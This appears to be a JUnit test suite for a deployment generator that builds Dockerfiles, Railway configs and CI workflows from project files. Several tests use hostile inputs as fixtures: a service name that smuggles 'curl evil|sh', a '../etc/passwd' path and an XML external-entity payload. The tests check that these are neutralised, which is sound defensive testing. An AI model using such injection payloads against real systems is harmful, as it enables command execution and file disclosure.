package dev.backendteam.ops.deployment;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.backendteam.contract.Artifact;
import dev.backendteam.contract.Diagnosis;
import dev.backendteam.contract.EvidenceStatus;
import dev.backendteam.contract.FileInput;
import dev.backendteam.contract.Finding;
import dev.backendteam.contract.Handoff;
import dev.backendteam.contract.ResultStatus;
import dev.backendteam.contract.Specialist;
import dev.backendteam.contract.StepOutcome;
import dev.backendteam.contract.TaskEvent;
import dev.backendteam.contract.TaskKind;
import dev.backendteam.ops.deployment.docker.DockerfileLinter;
import dev.backendteam.ops.deployment.stack.Deployable;
import dev.backendteam.ops.deployment.stack.Stack;
import dev.backendteam.ops.deployment.stack.StackDetector;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Each stack the detector knows yields files that pass every check; bad or missing input never crashes. */
class DeployStacksTest {
    private static final DeploymentEngine ENGINE = new DeploymentEngine(DeployFixtures.TOOLCHAIN);

    private static StepOutcome work(FileInput... files) {
        return ENGINE.work(DeployFixtures.task(TaskKind.WORK, List.of(files), List.of()));
    }

    private static void allPassed(StepOutcome o) {
        assertEquals(ResultStatus.SUCCEEDED, o.status(), o.reason() + " " + o.evidence());
        assertTrue(o.evidence().stream().allMatch(e -> e.status() == EvidenceStatus.PASSED), o.evidence().toString());
        assertTrue(o.evidence().stream().anyMatch(e -> e.check().startsWith("tsc:")));
    }

    private static boolean has(StepOutcome o, String rule) {
        return o.findings().stream().map(Finding::ruleId).anyMatch(rule::equals);
    }

    @Test
    void nodeWithALockFileAndPostgres() {
        StepOutcome o = work(new FileInput("package.json", """
                {"name": "@acme/api", "scripts": {"start": "node server.js", "build": "tsc"},
                 "engines": {"node": ">=22"}, "dependencies": {"pg": "^8.13.0", "express": "^5.1.0"}}"""),
                new FileInput("package-lock.json", "{}"),
                new FileInput("server.js", "app.listen(Number(process.env.PORT ?? 3000), '0.0.0.0')"));
        allPassed(o);
        String dockerfile = DeployFixtures.content(o.artifacts(), "Dockerfile");
        assertTrue(dockerfile.contains("COPY package.json package-lock.json ./\nRUN npm ci"), dockerfile);
        assertTrue(dockerfile.contains("FROM node:22."), dockerfile);
        assertTrue(dockerfile.contains("CMD [\"npm\", \"start\"]"), dockerfile);
        String ts = DeployFixtures.content(o.artifacts(), ".railway/railway.ts");
        assertTrue(ts.contains("service(\"api\"") && ts.contains("DATABASE_URL: postgres.env.DATABASE_URL"), ts);
        assertFalse(has(o, "deploy.port-fixed"));
        assertTrue(DeployFixtures.content(o.artifacts(), ".github/workflows/deploy.yml").contains("npm ci && npm test"));
    }

    @Test
    void nodeWithoutALockFileIsWarnedAndStillInstalls() {
        StepOutcome o = work(new FileInput("package.json", "{\"name\": \"web\", \"main\": \"index.js\"}"));
        allPassed(o);
        assertTrue(has(o, "deploy.lockfile-missing"));
        assertTrue(has(o, "deploy.port-fixed"), "nothing given reads process.env.PORT");
        assertTrue(DeployFixtures.content(o.artifacts(), "Dockerfile").contains("RUN npm install"));
    }

    @Test
    void pythonDenoAndGo() {
        StepOutcome py = work(new FileInput("requirements.txt", "fastapi==0.115.0\nuvicorn==0.32.0\npsycopg[binary]==3.2.3\n"));
        allPassed(py);
        assertTrue(DeployFixtures.content(py.artifacts(), "Dockerfile").contains("exec uvicorn main:app --host 0.0.0.0"));
        assertTrue(DeployFixtures.content(py.artifacts(), ".railway/railway.ts").contains("postgres.env.DATABASE_URL"));

        StepOutcome deno = work(new FileInput("deno.json", "{\"tasks\": {\"start\": \"deno run -A main.ts\"}}"));
        allPassed(deno);
        assertTrue(DeployFixtures.content(deno.artifacts(), "Dockerfile").contains("CMD [\"deno\", \"task\", \"start\"]"));

        StepOutcome go = work(new FileInput("cmd/api/go.mod", "module example.com/api\n\ngo 1.24\n\nrequire github.com/jackc/pgx/v5 v5.7.1\n"),
                new FileInput("cmd/api/go.sum", ""));
        allPassed(go);
        assertTrue(DeployFixtures.content(go.artifacts(), "cmd/api/Dockerfile").contains("COPY go.mod go.sum ./"));
    }

    @Test
    void aGoImageLeavesItsHealthCheckToRailway() {
        StepOutcome go = work(new FileInput("go.mod", "module example.com/api\n\ngo 1.24\n"));
        allPassed(go);
        String dockerfile = DeployFixtures.content(go.artifacts(), "Dockerfile");
        assertFalse(dockerfile.contains("HEALTHCHECK --") || dockerfile.contains("-healthcheck"),
                "an ordinary Go binary answers no -healthcheck flag: " + dockerfile);
        assertFalse(has(go, "docker.healthcheck-missing"), "the lint rule agrees: " + go.findings());
        assertTrue(DeployFixtures.content(go.artifacts(), ".railway/railway.ts").contains("healthcheck: \"/healthz\""));
        assertTrue(go.findings().stream().anyMatch(f -> f.ruleId().equals("deploy.health-advice")
                && f.message().contains("Railway's HTTP health check only")), go.findings().toString());
        DockerfileLinter linter = DockerfileLinter.standard();
        assertTrue(linter.lint("Dockerfile", "FROM gcr.io/distroless/static-debian12:nonroot\nEXPOSE 8080\n").stream()
                .noneMatch(f -> f.ruleId().equals("docker.healthcheck-missing")), "nothing in it can ask an endpoint");
        assertTrue(linter.lint("Dockerfile", "FROM node:22.20.0-bookworm-slim\nEXPOSE 8080\n").stream()
                .anyMatch(f -> f.ruleId().equals("docker.healthcheck-missing")), "an image with a runtime still needs one");
    }

    @Test
    void aRunnableJarAndALibraryInOneBuild() {
        StepOutcome o = work(new FileInput("pom.xml", """
                <project><artifactId>shop-parent</artifactId><packaging>pom</packaging>
                  <properties><maven.compiler.release>21</maven.compiler.release></properties>
                  <modules><module>core</module><module>web</module></modules></project>"""),
                new FileInput("core/pom.xml", "<project><artifactId>core</artifactId></project>"),
                new FileInput("web/pom.xml", """
                <project><artifactId>web</artifactId>
                  <dependencies><dependency><groupId>x</groupId><artifactId>core</artifactId></dependency>
                    <dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency>
                  </dependencies>
                  <build><plugins><plugin><groupId>org.springframework.boot</groupId>
                    <artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>"""));
        allPassed(o);
        List<String> names = o.artifacts().stream().map(Artifact::name).toList();
        assertTrue(names.contains("web/Dockerfile") && !names.contains("core/Dockerfile"), names.toString());
        String dockerfile = DeployFixtures.content(o.artifacts(), "web/Dockerfile");
        assertTrue(dockerfile.contains("maven:3.9.9-eclipse-temurin-21") && dockerfile.contains("COPY core/src core/src"));
        assertTrue(has(o, "deploy.port-fixed"), "server.port is not read from PORT");
    }

    @Test
    void secretsAreWiredByReferenceAndNeverWrittenIntoAFile() {
        StepOutcome o = work(new FileInput("pom.xml", """
                <project><artifactId>billing</artifactId>
                  <dependencies><dependency><groupId>io.quarkus</groupId><artifactId>quarkus-smallrye-health</artifactId></dependency>
                    <dependency><groupId>io.quarkus</groupId><artifactId>quarkus-jdbc-postgresql</artifactId></dependency></dependencies>
                  <build><plugins><plugin><groupId>io.quarkus</groupId><artifactId>quarkus-maven-plugin</artifactId></plugin></plugins></build></project>"""),
                new FileInput("src/main/resources/application.properties", """
                        quarkus.http.port=${PORT:8080}
                        quarkus.datasource.db-kind=postgresql
                        quarkus.datasource.jdbc.url=${QUARKUS_DATASOURCE_JDBC_URL}
                        stripe.api-key=${STRIPE_API_KEY:sk_test_hunter2}
                        billing.currency=${BILLING_CURRENCY:EUR}
                        billing.invoice-prefix=${INVOICE_PREFIX:}
                        billing.grace=${BILLING_GRACE:${billing.default-grace:14d}}
                        %dev.billing.debug-token=${DEBUG_TOKEN:dev-only}
                        quarkus.redis.hosts=${REDIS_URI:redis://:pw@host:6379}
                        billing.ledger=${LEDGER_DSN:host=ledger user=billing sslmode=disable}
                        """));
        allPassed(o);
        for (Artifact a : o.artifacts()) {
            assertFalse(a.content().contains("sk_test_hunter2"), a.name() + " carries a secret's default");
            assertFalse(a.content().contains("pw@host") || a.content().contains("user=billing"),
                    a.name() + " carries a credential-bearing default");
        }
        String guide = DeployFixtures.content(o.artifacts(), "DEPLOY.md");
        assertTrue(guide.contains("`REDIS_URI` | (its default) | optional (has a default)")
                && guide.contains("`LEDGER_DSN` | (its default) | optional (has a default)"), guide);
        assertTrue(guide.contains("optional (default EUR)"), "a harmless default is still told");
        assertTrue(guide.contains("`INVOICE_PREFIX` | (its default) | optional (empty by default)"), guide);
        assertTrue(guide.contains("`BILLING_GRACE` | (its default) | optional (default ${billing.default-grace:14d})"),
                "a default that is an expression, whole: " + guide);
        String ts = DeployFixtures.content(o.artifacts(), ".railway/railway.ts");
        assertTrue(ts.contains("STRIPE_API_KEY: preserve()"), ts);
        assertTrue(ts.contains("QUARKUS_DATASOURCE_PASSWORD: postgres.env.PGPASSWORD"), ts);
        assertFalse(ts.contains("BILLING_CURRENCY"), "a non-secret default is left to the configuration");
        assertFalse(ts.contains("DEBUG_TOKEN"), "profile-only keys are not production configuration");
        assertTrue(DeployFixtures.content(o.artifacts(), "DEPLOY.md").contains("`BILLING_CURRENCY` | (its default)"));
        assertTrue(ts.contains("// billing: public") || ts.contains("// billing: private"));
    }

    @Test
    void aDatabaseUrlTheServiceReadsAsAJdbcUrlIsBuiltFromRailwaysPartsNotItsPostgresqlUrl() throws Exception {
        JsonNode example = new ObjectMapper().readTree(
                Files.readString(DeployFixtures.REPO.resolve("deploy/examples/deployment.json")));
        List<FileInput> files = new ArrayList<>();
        example.get("files").forEach(f -> files.add(new FileInput(f.get("path").asText(), f.get("content").asText())));
        StepOutcome o = work(files.toArray(FileInput[]::new));
        allPassed(o);
        String ts = DeployFixtures.content(o.artifacts(), ".railway/railway.ts");
        assertTrue(ts.contains("DATABASE_URL: \"jdbc:postgresql://${{postgres.PGHOST}}:${{postgres.PGPORT}}/"
                + "${{postgres.PGDATABASE}}\""), "quarkus.datasource.jdbc.url=${DATABASE_URL} needs a JDBC URL: " + ts);
        assertFalse(ts.contains("DATABASE_URL: postgres.env.DATABASE_URL"), ts);
        assertTrue(ts.contains("PGUSER: postgres.env.PGUSER"), "the other parts stay plain references: " + ts);
        assertTrue(DeployFixtures.content(o.artifacts(), "DEPLOY.md").contains("as a JDBC URL"));
    }

    @Test
    void aRailwayJsonGetsAMigrationNote() {
        StepOutcome o = work(new FileInput("package.json", "{\"name\": \"web\", \"scripts\": {\"start\": \"node a.js\"}}"),
                new FileInput("railway.json", "{\"deploy\": {\"healthcheckPath\": \"/health\", \"numReplicas\": 2}}"));
        Finding note = o.findings().stream().filter(f -> f.ruleId().equals("deploy.railway-config-migration"))
                .findFirst().orElseThrow();
        assertTrue(note.message().contains("deploy.healthcheckPath = \"/health\" → service(…, { healthcheck })"),
                note.message());
        assertTrue(note.message().contains("replicas"), note.message());
        assertTrue(DeployFixtures.content(o.artifacts(), "DEPLOY.md").contains("Migration: railway.json"));
    }

    @Test
    void nothingDeployableAsksAQuestionAndBadInputNeverCrashes() {
        StepOutcome none = work(new FileInput("README.md", "hello"));
        assertEquals(ResultStatus.NEEDS_INPUT, none.status());
        assertNotNull(none.question());
        assertTrue(has(none, "deploy.stack-unknown"));
        assertEquals(ResultStatus.NEEDS_INPUT, ENGINE.work(DeployFixtures.task(TaskKind.WORK, List.of(), List.of()))
                .status());

        StepOutcome bad = work(new FileInput("pom.xml", "<project><artifactId>x"),
                new FileInput("api/package.json", "{not json"),
                new FileInput("../etc/passwd", "root"),
                new FileInput("svc/pom.xml", "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                        + "<project><artifactId>&e;</artifactId></project>"));
        assertEquals(ResultStatus.NEEDS_INPUT, bad.status());
        assertTrue(has(bad, "deploy.pom-unreadable") && has(bad, "deploy.package-json-unreadable")
                && has(bad, "deploy.input-path"), bad.findings().toString());
        assertTrue(bad.findings().stream().noneMatch(f -> f.message().contains("root:x:0")), "no external entity read");
    }

    private static Stack detect(FileInput... files) {
        return StackDetector.standard().detect(List.of(files));
    }

    private static boolean has(Stack s, String rule) {
        return s.findings().stream().map(Finding::ruleId).anyMatch(rule::equals);
    }

    private static String pom(String artifactId, String packaging, String modules) {
        return "<project><groupId>g</groupId>" + (artifactId == null ? "" : "<artifactId>" + artifactId + "</artifactId>")
                + "<version>1</version><packaging>" + packaging + "</packaging><modules>" + modules + "</modules>"
                + "<build><plugins><plugin><groupId>io.quarkus</groupId><artifactId>quarkus-maven-plugin</artifactId>"
                + "</plugin></plugins></build></project>";
    }

    @Test
    void aModuleCycleIsReportedAndWalkedOnce() {
        Stack s = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> detect(
                new FileInput("pom.xml", pom("root", "pom", "<module>a</module>")),
                new FileInput("a/pom.xml", pom("a", "jar", "<module>../b</module>")),
                new FileInput("b/pom.xml", pom("b", "jar", "<module>../a</module>"))), "a guard against looping");
        assertTrue(has(s, "deploy.module-cycle"), s.findings().toString());
        assertEquals(List.of("a", "b"), s.deployables().stream().map(Deployable::name).toList());
        assertEquals(List.of("", "a", "b"), s.deployables().get(0).build().moduleDirs());
    }

    @Test
    void anImpossibleNodeEngineAndAPomWithoutArtifactIdAreFindingsNotFailures() {
        Stack node = detect(new FileInput("package.json",
                "{\"name\": \"api\", \"scripts\": {\"start\": \"node s.js\"}, \"engines\": {\"node\": \">=99999999999\"}}"));
        assertTrue(has(node, "deploy.node-engine-unknown"), node.findings().toString());
        assertEquals("22", node.deployables().get(0).runtime());

        Stack maven = detect(new FileInput("pom.xml", pom(null, "jar", "")));
        assertTrue(has(maven, "deploy.pom-artifactid-missing"), maven.findings().toString());
        assertEquals("web", maven.deployables().get(0).name());
    }

    @Test
    void aHostileServiceNameIsSluggedAndSaid() {
        StepOutcome o = work(new FileInput("package.json", "{\"name\": \"x$(curl evil|sh)\\nrun: y\","
                + " \"scripts\": {\"start\": \"node s.js\"}}"), new FileInput("package-lock.json", "{}"),
                new FileInput("s.js", "app.listen(Number(process.env.PORT ?? 3000), '0.0.0.0')"));
        allPassed(o);
        assertTrue(o.findings().stream().anyMatch(f -> f.ruleId().equals("deploy.service-name")
                && f.object().equals("package.json") && f.message().contains("x-curl-evil-sh-run-y")), o.findings().toString());
        for (Artifact a : o.artifacts()) {
            assertFalse(a.content().contains("$(curl") || a.content().contains("run: y"), a.name());
        }
        String workflow = DeployFixtures.content(o.artifacts(), ".github/workflows/deploy.yml");
        assertTrue(workflow.contains("run: railway up --ci --service x-curl-evil-sh-run-y\n"), workflow);
    }

    private static StepOutcome handedOff(String rule, String object, FileInput... files) {
        TaskEvent t = DeployFixtures.task(TaskKind.WORK, List.of(files), List.of());
        Diagnosis diagnosis = new Diagnosis(rule, null, object, null, "java.lang.OutOfMemoryError: Java heap space",
                "runtime", "deployment", "critical", List.of());
        return ENGINE.work(new TaskEvent(t.version(), t.taskId(), t.jobId(), t.step(), t.attempt(), t.service(),
                t.role(), t.kind(), t.task(), t.inputs(), t.artifacts(), 1, null, List.of(),
                new Handoff(Specialist.OPS, "deployment", "the fix belongs to ops(deployment)", diagnosis)));
    }

    @Test
    void aDebuggerHandoffWithoutFilesAsksForTheFilesOfItsDiagnosis() {
        StepOutcome o = handedOff("jvm.oom-heap", "Java heap space");
        assertEquals(ResultStatus.NEEDS_INPUT, o.status());
        assertTrue(o.question().contains("jvm.oom-heap (Java heap space)") && o.question().contains("memory settings")
                && o.question().contains("Dockerfile") && o.question().contains("report"), o.question());
        assertFalse(o.question().startsWith("Which service"), o.question());
    }

    @Test
    void aDebuggerHandoffWithFilesTiesTheDeliveryToItsDiagnosis() {
        StepOutcome o = handedOff("jvm.oom-heap", "Java heap space", new FileInput("pom.xml",
                pom("api", "jar", "")), new FileInput("src/main/resources/application.properties",
                "quarkus.http.port=${PORT:8080}\n"));
        assertEquals(ResultStatus.SUCCEEDED, o.status(), o.reason() + " " + o.evidence());
        Finding tie = o.findings().stream().filter(f -> f.ruleId().equals("deploy.diagnosis")).findFirst()
                .orElseThrow(() -> new AssertionError(o.findings().toString()));
        assertTrue(tie.message().contains("jvm.oom-heap") && tie.message().contains("Dockerfile: HEALTHCHECK")
                && tie.message().contains("$PORT") && tie.message().contains("memory -XX:MaxRAMPercentage=75"),
                tie.message());
    }

    @Test
    void aDockerfileTheUserGaveIsLintedAsAdvice() {
        StepOutcome o = work(new FileInput("package.json", "{\"name\": \"web\", \"scripts\": {\"start\": \"node a.js\"}}"),
                new FileInput("legacy/Dockerfile", "FROM node\nENV API_TOKEN=abc\nCOPY . .\nRUN npm install\n"));
        assertTrue(has(o, "input.docker.base-image-untagged") && has(o, "input.docker.secret-in-env")
                && has(o, "input.docker.source-before-dependencies") && has(o, "input.docker.root-user"),
                o.findings().toString());
        allPassed(o);
    }
}
